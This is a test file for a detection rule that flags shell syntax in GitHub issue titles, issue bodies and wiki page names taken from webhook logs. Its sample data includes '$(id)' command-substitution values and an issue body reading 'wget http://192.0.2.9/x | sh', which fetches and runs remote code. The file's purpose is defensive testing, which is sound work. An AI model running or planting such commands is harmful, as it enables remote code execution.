import { RuleTest } from "@pypanther/core";
import { GitHubWebhookMaliciousIssuePagesContent } from "../src/github-webhook-malicious-issue-pages-content";

const issueOpened = {
  p_log_type: "GitHub.Webhook",
  action: "opened",
  repository: {
    full_name: "harbourline/widgets",
    name: "widgets",
    private: false,
    html_url: "https://github.com/harbourline/widgets",
  },
  issue: {
    number: 12,
    title: "Crash in $(id)",
    body: null,
    state: "open",
    user: { login: "guest-marlow" },
    html_url: "https://github.com/harbourline/widgets/issues/12",
  },
};

const wikiEdited = {
  p_log_type: "GitHub.Webhook",
  repository: {
    full_name: "harbourline/widgets",
    name: "widgets",
    private: false,
    html_url: "https://github.com/harbourline/widgets",
  },
  pages: [
    { page_name: "Home", html_url: "https://github.com/harbourline/widgets/wiki/Home" },
    {
      page_name: "$(id)",
      action: "created",
      title: "Notes",
      html_url: "https://github.com/harbourline/widgets/wiki/Notes",
    },
  ],
};

export const tests = [
  new RuleTest({
    name: "the title of an issue is a command",
    expectedResult: true,
    log: issueOpened,
    expectedTitle: "Shell syntax in issue [12] of [harbourline/widgets] by [guest-marlow]",
    expectedSeverity: "MEDIUM",
    expectedReference: "https://github.com/harbourline/widgets/issues/12",
    expectedAlertContext: {
      action: "opened",
      actor: "",
      actor_location: null,
      org: "",
      repo: "",
      user: "",
      repository: {
        name: "widgets",
        full_name: "harbourline/widgets",
        private: false,
        fork: null,
        default_branch: null,
        html_url: "https://github.com/harbourline/widgets",
      },
      field_analysis: {
        title: { value: "Crash in $(id)", matched_patterns: [{ pattern: String.raw`\$\([^)]+\)`, match: ["$(id)"] }] },
      },
      issue: {
        number: 12,
        title: "Crash in $(id)",
        state: "open",
        user: "guest-marlow",
        html_url: "https://github.com/harbourline/widgets/issues/12",
        created_at: null,
        updated_at: null,
      },
      malicious_pages: [],
    },
  }),
  new RuleTest({
    name: "the body of an edited issue of unknown origin",
    expectedResult: true,
    log: { ...issueOpened, action: "edited", issue: { state: "open", body: "wget http://192.0.2.9/x | sh" } },
    expectedTitle: "Shell syntax in issue of an unknown number of [harbourline/widgets] by an unknown user",
    expectedReference: "https://github.com/harbourline/widgets",
  }),
  new RuleTest({
    name: "the name of a wiki page is a command",
    expectedResult: true,
    log: wikiEdited,
    expectedTitle: "Shell syntax in the name of a wiki page of [harbourline/widgets]",
    expectedReference: "https://github.com/harbourline/widgets/wiki/Home",
    expectedAlertContext: {
      action: "",
      actor: "",
      actor_location: null,
      org: "",
      repo: "",
      user: "",
      repository: {
        name: "widgets",
        full_name: "harbourline/widgets",
        private: false,
        fork: null,
        default_branch: null,
        html_url: "https://github.com/harbourline/widgets",
      },
      malicious_pages: [
        {
          page_name: "$(id)",
          action: "created",
          title: "Notes",
          html_url: "https://github.com/harbourline/widgets/wiki/Notes",
          matched_patterns: [{ pattern: String.raw`\$\([^)]+\)`, match: ["$(id)"] }],
        },
      ],
    },
  }),
  new RuleTest({
    name: "the issue is closed already",
    expectedResult: false,
    log: { ...issueOpened, issue: { ...issueOpened.issue, state: "closed" } },
  }),
  new RuleTest({
    name: "the issue gets a label",
    expectedResult: false,
    log: { ...issueOpened, action: "labeled" },
  }),
  new RuleTest({
    name: "a harmless issue",
    expectedResult: false,
    log: { ...issueOpened, issue: { ...issueOpened.issue, title: "Crash on start" } },
  }),
  new RuleTest({
    name: "a harmless page",
    expectedResult: false,
    log: { ...wikiEdited, pages: [wikiEdited.pages[0]] },
  }),
];

export { GitHubWebhookMaliciousIssuePagesContent as rule };
